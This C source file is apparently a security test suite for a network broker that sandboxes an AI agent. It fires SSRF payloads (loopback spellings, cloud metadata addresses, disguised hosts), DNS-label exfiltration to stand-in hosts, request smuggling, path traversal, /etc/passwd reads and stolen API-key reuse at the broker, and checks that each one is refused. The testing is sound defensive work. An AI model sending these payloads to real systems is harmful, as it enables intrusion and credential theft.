/* SPDX-License-Identifier: MIT */
/* The broker, through the relay and at its socket: what it must refuse, by the rules of one session. */
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define RELAY_PORT 47129
#define WAIT_MS 20000

static int
by_relay(void)
{
    struct sockaddr_in name = {
        .sin_family = AF_INET, .sin_port = htons(RELAY_PORT), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    return connect(fd, (struct sockaddr *)&name, sizeof name) == 0 ? fd : -1;
}

static int
by_socket(void)
{
    struct sockaddr_un name = {.sun_family = AF_UNIX, .sun_path = "/opt/errand/run/model.sock"};
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

    return connect(fd, (struct sockaddr *)&name, sizeof name) == 0 ? fd : -1;
}

/* The last status of what came back before the connection ended; 0 without one. */
static int
ask(int fd, const char *request, char *answer, size_t size)
{
    struct pollfd ready = {.fd = fd, .events = POLLIN};
    size_t have = 0;
    int status = 0;

    if (fd < 0 || send(fd, request, strlen(request), MSG_NOSIGNAL) < 0)
        return 0;
    while (have + 1 < size && poll(&ready, 1, WAIT_MS) == 1) {
        ssize_t got = recv(fd, answer + have, size - 1 - have, 0);

        if (got <= 0)
            break;
        have += (size_t)got;
        answer[have] = '\0';
    }
    answer[have] = '\0';
    close(fd);
    for (const char *at = answer; (at = strstr(at, "HTTP/1.1 ")) != NULL; at++)
        status = atoi(at + 9);
    return status;
}

/* Refused: one of @statuses ("403 400"), with the broker's own mark, on both ways in. */
static void
refused(const char *name, const char *statuses, const char *request)
{
    static const struct {
        const char *name;
        int (*connect)(void);
    } WAYS[] = {{"", by_relay}, {"-at-socket", by_socket}};
    char row[256], detail[64], answer[8192];

    for (size_t i = 0; i < sizeof WAYS / sizeof WAYS[0]; i++) {
        int status = ask(WAYS[i].connect(), request, answer, sizeof answer);

        snprintf(row, sizeof row, "%s%s", name, WAYS[i].name);
        snprintf(detail, sizeof detail, "%d", status);
        attack_said(row,
                    status >= 400 && strstr(statuses, detail) != NULL && strstr(answer, "X-Errand-Box-Refused") != NULL,
                    detail);
    }
}

static void
refused_target(const char *target)
{
    char request[1024], name[512];

    snprintf(request, sizeof request, "CONNECT %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", target, target);
    snprintf(name, sizeof name, "connect-%s", target);
    refused(name, "403 400", request);
}

static void
attack_targets(void)
{
    static const char *const TARGETS[] = {
        /* hosts that nobody allowed, and how one would dress them up as one that is */
        "evil.test:443",
        "allowed.test.evil.test:443",
        "xallowed.test:443",
        "allowed.test:444",
        "ok.allowed.test:22",
        "ok.allowed.test:0",
        "ok.allowed.test",
        "ok.allowed.test:65536",
        "ok.allowed.test:443x",
        "ok.allowed.test:+443",
        "user@ok.allowed.test:443",
        "ok.allowed.test@evil.test:443",
        "ok.allowed.test#.evil.test:443",
        "ok.allowed.test%00.evil.test:443",
        "ok.allowed.test..:443",
        ".allowed.test:443",
        "ok.allowed.test/:443",
        "\xef\xbd\x85vil.test:443",
        "xn--evil-.test:443",
        "ok\xe3\x80\x82"
        "allowed.test:443",
        /* the inside, by every spelling */
        "127.0.0.1:22",
        "127.1:22",
        "127.0.1:22",
        "2130706433:22",
        "0x7f000001:22",
        "0x7f.1:22",
        "0177.0.0.1:22",
        "0:22",
        "0.0.0.0:22",
        "localhost:22",
        "localhost.:22",
        "10.0.0.1:443",
        "172.16.0.1:443",
        "192.168.1.1:443",
        "169.254.169.254:80",
        "100.64.0.1:443",
        "192.0.0.8:443",
        "198.18.0.1:443",
        "203.0.113.1:443",
        "224.0.0.1:443",
        "240.0.0.1:443",
        "255.255.255.255:443",
        "[::]:443",
        "[::1]:22",
        "[::ffff:127.0.0.1]:22",
        "[::ffff:7f00:1]:22",
        "[::127.0.0.1]:22",
        "[64:ff9b::7f00:1]:22",
        "[64:ff9b:1::7f00:1]:22",
        "[2002:7f00:1::]:22",
        "[2001:0:7f00:1::]:22",
        "[fe80::1]:443",
        "[fe80::1%25lo]:443",
        "[fc00::1]:443",
        "[fec0::1]:443",
        "[ff02::1]:443",
        "[2001:db8::1]:443",
        "[100::1]:443",
        "[::1:22",
        "127.0.0.1:47130",
        "metadata.google.internal:80",
        /* names that the test's name server gives an inner address, though the rule allows the name */
        "loopback.allowed.test:443",
        "metadata.allowed.test:443",
        "private.allowed.test:443",
        "mapped.allowed.test:443",
    };

    for (size_t i = 0; i < sizeof TARGETS / sizeof TARGETS[0]; i++)
        refused_target(TARGETS[i]);
}

/* Data in the labels of names that nobody allowed: the name server of the test must not see one. */
static void
attack_names(void)
{
    static const char *const REQUESTS[] = {
        "CONNECT c2VjcmV0IG9mIHRoaXMgc2Vzc2lvbg.leaked.x.test:443 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        "CONNECT leaked-by-connect.x.test:443 HTTP/1.1\r\nHost: leaked-by-connect.x.test:443\r\nConnection: "
        "close\r\n\r\n",
        "CONNECT leaked-by-port.allowed.test:53 HTTP/1.1\r\nHost: leaked-by-port.allowed.test:53\r\nConnection: "
        "close\r\n\r\n",
        "GET http://leaked-by-get.x.test/ HTTP/1.1\r\nHost: leaked-by-get.x.test\r\nConnection: close\r\n\r\n",
        "GET http://ok.allowed.test/ HTTP/1.1\r\nHost: leaked-by-host.x.test\r\nConnection: close\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: leaked-by-origin.x.test\r\nConnection: close\r\n\r\n",
        "CONNECT dns.google:443 HTTP/1.1\r\nHost: dns.google:443\r\nConnection: close\r\n\r\n",
        "CONNECT cloudflare-dns.com:443 HTTP/1.1\r\nHost: cloudflare-dns.com:443\r\nConnection: close\r\n\r\n",
        "CONNECT 1.1.1.1:443 HTTP/1.1\r\nHost: 1.1.1.1:443\r\nConnection: close\r\n\r\n",
        "CONNECT 8.8.8.8:53 HTTP/1.1\r\nHost: 8.8.8.8:53\r\nConnection: close\r\n\r\n",
        "GET http://1.1.1.1/dns-query?dns=EjQBAAABAAAAAAAABmxlYWtlZAF4BHRlc3QAAAEAAQ HTTP/1.1\r\nHost: 1.1.1.1\r\n"
        "Connection: close\r\n\r\n",
    };
    char name[64];

    for (size_t i = 0; i < sizeof REQUESTS / sizeof REQUESTS[0]; i++) {
        snprintf(name, sizeof name, "names-%zu", i);
        refused(name, "403 400 404", REQUESTS[i]);
    }
}

static void
attack_requests(void)
{
    static const struct {
        const char *name, *statuses, *request;
    } ROWS[] = {
        {"plain-not-allowed", "403", "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"},
        {"plain-host-differs", "400",
         "GET http://ok.allowed.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n"},
        {"plain-by-address", "403",
         "GET http://169.254.169.254/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n"},
        {"plain-port-8080", "403",
         "GET http://ok.allowed.test:8080/ HTTP/1.1\r\nHost: ok.allowed.test:8080\r\nConnection: close\r\n\r\n"},
        {"plain-https", "400",
         "GET https://ok.allowed.test/ HTTP/1.1\r\nHost: ok.allowed.test\r\nConnection: close\r\n\r\n"},
        {"plain-ftp", "400",
         "GET ftp://ok.allowed.test/ HTTP/1.1\r\nHost: ok.allowed.test\r\nConnection: close\r\n\r\n"},
        {"plain-file", "400", "GET file:///etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"},
        {"h2c", "501",
         "GET http://ok.allowed.test/ HTTP/1.1\r\nHost: ok.allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\n"
         "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n\r\n"},
        {"websocket-not-allowed", "403 501",
         "GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\n"
         "Upgrade: websocket\r\n\r\n"},
        {"trace", "405",
         "TRACE http://ok.allowed.test/ HTTP/1.1\r\nHost: ok.allowed.test\r\nConnection: close\r\n\r\n"},
        {"h2-preface", "400 405", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"},
        {"inner-connect", "405",
         "CONNECT 127.0.0.1:47129 HTTP/1.1\r\nHost: 127.0.0.1:47129\r\n\r\n"
         "CONNECT ok.allowed.test:443 HTTP/1.1\r\nHost: ok.allowed.test:443\r\nConnection: close\r\n\r\n"},
        {"provider-without-nonce", "401",
         "POST /provider/anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"},
        {"provider-empty-nonce", "401",
         "POST /provider/anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nx-api-key:\r\nContent-Length: 0\r\nConnection: "
         "close\r\n\r\n"},
        {"provider-unknown", "404",
         "POST /provider/other/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"},
        {"provider-prefix", "404",
         "POST /provider/anthropicx/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"},
        {"outside-provider", "404", "GET /metrics HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"},
        {"two-framings", "400",
         "POST /provider/anthropic/v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 6\r\n"
         "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"},
        {"bare-lf", "400", "POST /provider/anthropic/v1/messages HTTP/1.1\nHost: x\n\n"},
    };

    for (size_t i = 0; i < sizeof ROWS / sizeof ROWS[0]; i++)
        refused(ROWS[i].name, ROWS[i].statuses, ROWS[i].request);
}

/* The neighbour's nonce in every place where one may stand; the path names what the provider must never see. */
static void
attack_nonces(void)
{
    static const char *const KINDS[] = {"x-api-key: ", "Authorization: Bearer ", "x-goog-api-key: ", "api-key: "};
    const char *nonce = attack_value("nonce");
    char request[1024], name[128];

    for (size_t i = 0; i < sizeof KINDS / sizeof KINDS[0]; i++) {
        snprintf(request, sizeof request,
                 "POST /provider/anthropic/v1/stolen HTTP/1.1\r\nHost: x\r\n%s%s\r\nContent-Length: 0\r\n"
                 "Connection: close\r\n\r\n",
                 KINDS[i], nonce);
        snprintf(name, sizeof name, "nonce-of-neighbour-%zu", i);
        refused(name, "401", request);
    }
    snprintf(request, sizeof request,
             "POST /provider/anthropic/v1/stolen?key=%s HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n"
             "Connection: close\r\n\r\n",
             nonce);
    refused("nonce-of-neighbour-query", "401", request);
}

/* This session's own nonce, to see what comes with it: paths beyond the provider's, and the key itself. */
static void
attack_paths(void)
{
    static const char *const PATHS[] = {"../../x",       "%2e%2E/x", "%2e%2e%2fx", "..;/x",  "%2e%2e;a=b/x",
                                        "v1/x%0d%0aX:1", "\\..\\x",  "%5c..%5cx",  "v1/%00", ".%2e/x"};
    const char *nonce =
        getenv("ANTHROPIC_API_KEY") != NULL ? getenv("ANTHROPIC_API_KEY") : getenv("ANTHROPIC_AUTH_TOKEN");
    char request[1024], name[128];

    if (nonce == NULL) {
        attack_said("own-nonce", attack_is_root(), "not in this environment");
        return;
    }
    for (size_t i = 0; i < sizeof PATHS / sizeof PATHS[0]; i++) {
        snprintf(request, sizeof request,
                 "POST /provider/anthropic/%s HTTP/1.1\r\nHost: x\r\nx-api-key: %s\r\nContent-Length: 0\r\n"
                 "Connection: close\r\n\r\n",
                 PATHS[i], nonce);
        snprintf(name, sizeof name, "path-%s", PATHS[i]);
        refused(name, "400", request);
    }
}

/* What other sessions with the same key have at the provider. */
static void
attack_lists(void)
{
    static const char *const LISTS[] = {"v1/files", "v1/f%69les/", "v1/messages/batches?limit=9", "v1/Files;x"};
    const char *nonce =
        getenv("ANTHROPIC_API_KEY") != NULL ? getenv("ANTHROPIC_API_KEY") : getenv("ANTHROPIC_AUTH_TOKEN");
    char request[1024], name[128];

    for (size_t i = 0; nonce != NULL && i < sizeof LISTS / sizeof LISTS[0]; i++) {
        snprintf(request, sizeof request,
                 "GET /provider/anthropic/%s HTTP/1.1\r\nHost: x\r\nx-api-key: %s\r\nConnection: close\r\n\r\n",
                 LISTS[i], nonce);
        snprintf(name, sizeof name, "list-%s", LISTS[i]);
        refused(name, "403", request);
    }
}

void
attack_broker(void)
{
    attack_targets();
    attack_names();
    attack_requests();
    attack_nonces();
    attack_paths();
    attack_lists();
}
